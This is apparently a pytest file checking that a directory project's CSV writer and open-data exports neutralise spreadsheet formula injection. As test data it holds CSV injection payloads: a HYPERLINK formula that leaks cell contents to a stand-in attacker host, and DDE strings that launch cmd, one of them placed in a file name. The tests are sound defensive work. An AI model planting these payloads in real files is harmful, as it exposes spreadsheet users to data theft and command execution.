"""Files we write are safe to open: no cell of a CSV we write can run as a formula in a spreadsheet (OWASP),
and the open-data exports still pass the data·inclusion package's validation."""

from __future__ import annotations

import csv
import gzip
import io

import pytest

from hub.spreadsheets import safe_cell
from network.exchange import export, importing, records
from network.tables import ImportRecord, Structure
from tests.conftest import read_datainclusion_export
from tests.test_exchange import DATA, validate_all

FORMULA = '=HYPERLINK("http://attaquant.example/?v="&A1,"Cliquez")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        (FORMULA, "'" + FORMULA),
        (DDE, "'" + DDE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # a signed number is data, not a formula: phone numbers and western longitudes stay as they are
        ("+33238000010", "+33238000010"),
        ("+33 2 38 00 00 10", "+33 2 38 00 00 10"),
        ("-1.9021", "-1.9021"),
        ("-4,5", "-4,5"),
        ("Centre social = lien", "Centre social = lien"),
        ("", ""),
        (None, ""),
        (-1.5, "-1.5"),
    ],
)
def test_a_cell_that_could_be_a_formula_is_neutralised(value, written):
    assert safe_cell(value) == written


async def test_the_import_report_csv_neutralises_cells_from_the_file(rt, tmp_path):
    hostile = (DATA / "datainclusion_structures.csv").read_text(encoding="utf-8")
    hostile = hostile.replace("cd45--mds-orleans-nord", "=cmd|' /C calc'!A0", 1)
    path = tmp_path / "=HYPERLINK(1).csv"
    path.write_text(hostile, encoding="utf-8")
    await importing.import_paths(rt, [path], "datainclusion")
    record = await ImportRecord.select(ImportRecord.id).first()
    _, content = await records.csv_of(record["id"])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in [row[3] for row in rows[1:]]
    assert {row[0] for row in rows[1:]} == {"'=HYPERLINK(1).csv"}
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    stored = await ImportRecord.select(ImportRecord.rows_csv).first()
    assert gzip.decompress(bytes(stored["rows_csv"])) == content


async def test_exports_neutralise_formulas_and_stay_valid_open_data(rt, tmp_path):
    await importing.import_paths(rt, [DATA / "datainclusion_valid.json"], "datainclusion")
    await importing.import_paths(rt, [DATA / "mednum_valid.csv"], "mednum")
    argonne = Structure.name == "Centre social de l'Argonne"
    await Structure.update(
        {
            Structure.name: FORMULA,
            Structure.description: DDE,
            Structure.phone: "+33238000010",
            Structure.longitude: -1.9021,
        }
    ).where(argonne)

    as_csv = await export.export_directory(rt, "datainclusion-csv", tmp_path / "annuaire.csv")
    with as_csv.paths[0].open(encoding="utf-8", newline="") as handle:
        structures = {row["id"]: row for row in csv.DictReader(handle)}
    row = structures["dora--cs-argonne"]
    assert row["nom"] == "'" + FORMULA and row["description"] == "'" + DDE
    assert row["telephone"] == "+33238000010" and row["longitude"] == "-1.9021"
    # the package still validates every row of the CSV pair, the neutralised ones included
    assert validate_all(read_datainclusion_export(as_csv.paths)) == (as_csv.structures, as_csv.services)

    await export.export_directory(rt, "mednum-csv", tmp_path / "lieux.csv")
    with (tmp_path / "lieux.csv").open(encoding="utf-8", newline="") as handle:
        places = {row["id"]: row for row in csv.DictReader(handle)}
    row = places["dora--cs-argonne"]
    assert row["nom"] == "'" + FORMULA and row["telephone"] == "+33238000010" and row["longitude"] == "-1.9021"
    for place in places.values():
        assert not [cell for cell in place.values() if cell.startswith(("=", "@", "\t", "\r"))]
